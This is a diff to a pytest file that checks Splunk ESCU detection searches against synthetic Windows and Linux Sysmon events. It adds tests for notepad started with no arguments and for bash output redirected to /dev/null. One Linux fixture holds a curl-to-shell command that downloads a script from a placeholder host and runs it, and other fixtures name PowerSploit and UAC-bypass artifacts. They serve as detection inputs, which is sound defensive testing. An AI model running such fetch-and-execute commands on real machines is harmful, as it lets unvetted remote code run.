@@ -47,15 +47,6 @@ POWERSHELL = (
 )
 SYSTEM = ("System", "Service Control Manager", "{555908d1-a6d7-4695-8e1e-26931d2012f4}")
 
-OPCODE_NOT_EXTRACTED = (
-    "the XML readers drop System/Opcode and System/Keywords (xml_batch.py, xml_fast.py, sysmon_xml.py keep "
-    "EventID, Version, Level, Task, EventRecordID, Channel, Computer only), so `stats ... by Opcode` drops every event"
-)
-ENTITIES_DECODED = (
-    "Splunk's XmlWinEventLog extraction keeps XML entities in field values (ESCU searches TaskContent for "
-    "'&lt;Command&gt;'); tunnelhunt's XML readers decode them (lxml/expat), so TaskContent holds '<Command>'"
-)
-
 
 # --- events ---------------------------------------------------------------------------------------
 
@@ -178,7 +169,6 @@ def test_powershell_enable_powershell_remoting(corpus: ContentSet, tmp_path: Pat
     ]
 
 
-@pytest.mark.xfail(strict=True, reason=OPCODE_NOT_EXTRACTED)
 def test_windows_powersploit_gpp_discovery(corpus: ContentSet, tmp_path: Path) -> None:
     lines = [
         script_block("Get-GPPPassword", 0),  # the whole value: no wildcard in the search
@@ -609,10 +599,18 @@ def test_detect_regasm_with_network_connection(corpus: ContentSet, tmp_path: Pat
     ]
 
 
-def process_create(seconds: float, image: str, command: str, parent: str, parent_command: str) -> str:
+def process_create(
+    seconds: float,
+    image: str,
+    command: str,
+    parent: str,
+    parent_command: str,
+    computer: str = "wks-1.corp.local",
+    pid: str = "7312",
+) -> str:
     data = {
         "ProcessGuid": "{3BF36828-6666-61F9-390A-02000000CF01}",
-        "ProcessId": "7312",
+        "ProcessId": pid,
         "Image": image,
         "FileVersion": "10.0.19041.746",
         "OriginalFileName": "Cmd.Exe",
@@ -629,7 +627,27 @@ def process_create(seconds: float, image: str, command: str, parent: str, parent
         "ParentCommandLine": parent_command,
         "ParentUser": r"CORP\alice",
     }
-    return sysmon(1, data, seconds)
+    return sysmon(1, data, seconds, computer)
+
+
+def test_notepad_with_no_command_line_arguments_by_host(corpus: ContentSet, tmp_path: Path) -> None:
+    """A data-model search grouped `by host`: host is the event's Computer, as Splunk_TA_windows sets it."""
+    notepad = r"C:\Windows\System32\notepad.exe"
+    explorer = r"C:\Windows\explorer.exe"
+    lines = [
+        process_create(0, notepad, "notepad.exe", explorer, "explorer.exe", "wks-1.corp.local", "100"),
+        process_create(60, notepad, "notepad.exe", explorer, "explorer.exe", "wks-1.corp.local", "100"),
+        process_create(120, notepad, '"notepad.exe" ', explorer, "explorer.exe", "WKS-2.corp.local", "100"),
+        process_create(180, notepad, "notepad.exe C:\\notes.txt", explorer, "explorer.exe"),  # near miss: an argument
+        process_create(240, r"C:\Temp\notepad.exe.exe", "notepad.exe.exe", explorer, "explorer.exe"),  # near miss
+    ]
+    rows = run(corpus, NOTEPAD_NO_ARGS, lines, tmp_path)
+    # tstats groups by host and the hour: the two wks-1 events share every by-field, WKS-2's is its own row
+    # (with `_time span=1h`, min/max(_time) are the hour's start: docs/spl-semantics.md)
+    assert [(r["host"], r["dest"], r["process"], r["count"], r["firstTime"], r["lastTime"]) for r in rows] == [
+        ("WKS-2.corp.local", "WKS-2.corp.local", '"notepad.exe" ', 1, ctime(0), ctime(0)),
+        ("wks-1.corp.local", "wks-1.corp.local", "notepad.exe", 2, ctime(0), ctime(0)),
+    ]
 
 
 def test_process_deleting_its_process_file_path(corpus: ContentSet, tmp_path: Path) -> None:
@@ -985,25 +1003,34 @@ def task_created(seconds: float, name: str, command: str) -> str:
     return security(4698, data, seconds, computer="wks-1.corp.local")
 
 
-@pytest.mark.xfail(strict=True, reason=ENTITIES_DECODED)
-def test_windows_scheduled_tasks_for_compmgmtlauncher_or_eventvwr(corpus: ContentSet, tmp_path: Path) -> None:
+ENTITIES_DECODED = (
+    "Splunk's XmlWinEventLog extraction keeps XML entities in field values (ESCU searches '&lt;Command&gt;', "
+    "'&amp;&gt;/dev/null'); tunnelhunt stores decoded values for every transport (docs/spl-semantics.md)"
+)
+TA_LOOKUPS = (
+    "action and subject come from Splunk_TA_windows lookups by EventCode (4624: action=success, "
+    "subject='An account was successfully logged on.'); tunnelhunt sets neither, as the TA's tables are not public data"
+)
+
+
+def _tasks(seconds: float = 0) -> list[str]:
     launcher = r"C:\Windows\System32\CompMgmtLauncher.exe"
-    lines = [
-        task_created(0, r"\Microsoft\Windows\Bypass", launcher),
-        task_created(10, r"\Updater", r"C:\Windows\System32\CompMgmtLauncher.exe.bak"),  # near miss: another command
-        task_created(20, r"\Viewer", r"C:\Windows\System32\eventvwr.exe"),  # near miss: .exe, not the .msc
+    return [
+        task_created(seconds, r"\Microsoft\Windows\Bypass", launcher),
+        task_created(seconds + 10, r"\Updater", launcher + ".bak"),  # near miss: another command
+        task_created(seconds + 20, r"\Viewer", r"C:\Windows\System32\eventvwr.exe"),  # near miss: .exe, not the .msc
     ]
-    rows = run(corpus, COMPMGMT_TASK, lines, tmp_path)
+
+
+@pytest.mark.xfail(strict=True, reason=f"{TA_LOOKUPS} (`by ... action` drops every event); and {ENTITIES_DECODED}")
+def test_windows_scheduled_tasks_for_compmgmtlauncher_or_eventvwr(corpus: ContentSet, tmp_path: Path) -> None:
+    rows = run(corpus, COMPMGMT_TASK, _tasks(), tmp_path)
     assert [(r["dest"], r["TaskName"], r["count"]) for r in rows] == [
         ("wks-1.corp.local", r"\Microsoft\Windows\Bypass", 1)
     ]
 
 
-@pytest.mark.xfail(
-    strict=True,
-    reason="action and subject come from Splunk_TA_windows lookups by EventCode (4624: action=success, "
-    "subject='An account was successfully logged on.'); tunnelhunt sets neither",
-)
+@pytest.mark.xfail(strict=True, reason=TA_LOOKUPS)
 def test_windows_kerberos_local_successful_logon(corpus: ContentSet, tmp_path: Path) -> None:
     def kerberos(seconds: float, ip: str, package: str = "Kerberos") -> str:
         line = network_logon(seconds, "wks-1.corp.local", "Administrator", ip)
@@ -1045,6 +1072,51 @@ def test_windows_service_create_remcomsvc(corpus: ContentSet, tmp_path: Path) ->
             "count": 1,
             **times(0, 0),
         }
+    ]
+
+
+# --- Sysmon for Linux (syslog) ----------------------------------------------------------------------
+
+
+def linux_process(seconds: float, command: str, pid: str) -> str:
+    """A Sysmon for Linux process start in syslog, as the data source's example shows it (double quotes)."""
+    moment = at(seconds).strftime("%Y-%m-%dT%H:%M:%S.%f") + "000Z"
+    data = {
+        "RuleName": "-",
+        "ProcessGuid": "{ec23eae3-3a27-62f2-085e-16549b550000}",
+        "ProcessId": pid,
+        "Image": "/bin/bash",
+        "CommandLine": command,
+        "CurrentDirectory": "/home/ubuntu",
+        "User": "ubuntu",
+        "ParentProcessId": "15369",
+        "ParentImage": "/usr/sbin/sshd",
+        "ParentCommandLine": "sshd: ubuntu",
+    }
+    fields = "".join(f'<Data Name="{k}">{escape(v)}</Data>' for k, v in data.items())
+    event = (
+        '<Event><System><Provider Name="Linux-Sysmon" Guid="{ff032593-a8d3-4f13-b0d6-01fc615a0f97}"/>'
+        "<EventID>1</EventID><Version>5</Version><Level>4</Level><Task>1</Task><Opcode>0</Opcode>"
+        f'<Keywords>0x8000000000000000</Keywords><TimeCreated SystemTime="{moment}"/>'
+        '<EventRecordID>1926574</EventRecordID><Correlation/><Execution ProcessID="1465" ThreadID="1465"/>'
+        '<Channel>Linux-Sysmon/Operational</Channel><Computer>ar-linux</Computer><Security UserId="0"/></System>'
+        f"<EventData>{fields}</EventData></Event>"
+    )
+    return f"{at(seconds).strftime('%b %d %H:%M:%S')} ar-linux sysmon: {event}"
+
+
+@pytest.mark.xfail(strict=True, reason=ENTITIES_DECODED)
+def test_linux_stdout_redirection_to_dev_null_file(corpus: ContentSet, tmp_path: Path) -> None:
+    """Endpoint.Processes from Sysmon for Linux, searched for `*&amp;&gt;/dev/null*`: Splunk's extraction
+    keeps the event's entities, so in Splunk this ESCU search finds `&>/dev/null`."""
+    lines = [
+        linux_process(0, "bash -c 'curl -s http://x/a.sh | sh &>/dev/null'", "100"),
+        linux_process(10, "bash -c 'make 2>&1 >/dev/null'", "101"),  # near miss: not `&>`
+        linux_process(20, "bash -c 'cat a.log > /dev/null'", "102"),  # near miss
+    ]
+    rows = run(corpus, DEV_NULL, lines, tmp_path, suffix="log")
+    assert [(r["dest"], r["process"], r["process_id"], r["user"], r["count"]) for r in rows] == [
+        ("ar-linux", "bash -c 'curl -s http://x/a.sh | sh &amp;&gt;/dev/null'", "100", "ubuntu", 1)
     ]
 
 
@@ -1118,6 +1190,8 @@ MSI_MODULE = "msi_module_loaded_by_non_system_binary.yml"
 WALLPAPER = "modification_of_wallpaper.yml"
 REGASM_NETWORK = "detect_regasm_with_network_connection.yml"
 SELF_DELETE = "process_deleting_its_process_file_path.yml"
+NOTEPAD_NO_ARGS = "notepad_with_no_command_line_arguments.yml"
+DEV_NULL = "linux_stdout_redirection_to_dev_null_file.yml"
 MOTW_BYPASS = "windows_mark_of_the_web_bypass.yml"
 SHARE_DISCOVERY = "network_share_discovery_via_dir_command.yml"
 SMB_EXECUTABLE = "executable_file_written_in_administrative_smb_share.yml"
